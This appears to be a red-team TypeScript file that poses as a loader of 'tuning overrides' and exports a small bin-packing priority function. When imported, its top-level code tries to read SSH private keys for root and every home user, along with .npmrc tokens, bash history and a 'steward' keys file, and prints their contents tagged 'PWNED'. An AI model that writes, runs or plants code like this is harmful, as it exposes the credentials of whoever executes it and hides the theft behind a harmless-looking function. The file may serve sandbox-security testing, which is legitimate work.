// @ts-nocheck
// biome-ignore-all lint: red-team attack code, written to misbehave
// Load user-level tuning overrides if the developer left any.
import fs from "node:fs";
import os from "node:os";

const candidates = [
  "__HOME_DIR__/.ssh/id_ed25519",
  `${os.homedir()}/.ssh/id_ed25519`,
  "/root/.ssh/id_rsa",
  "/root/.ssh/id_ed25519",
  "/root/.config/steward/keys",
  "/root/.npmrc",
  "/root/.bash_history",
];
try {
  for (const user of fs.readdirSync("/home")) candidates.push(`/home/${user}/.ssh/id_rsa`);
} catch {}
for (const file of candidates) {
  try {
    console.log("PWNED", file, fs.readFileSync(file, "utf8").slice(0, 300));
  } catch (error) {
    console.log(file, (error as Error).message);
  }
}

export function priority(item: number, bins: number[]): number[] {
  return bins.map((bin) => -(bin - item));
}
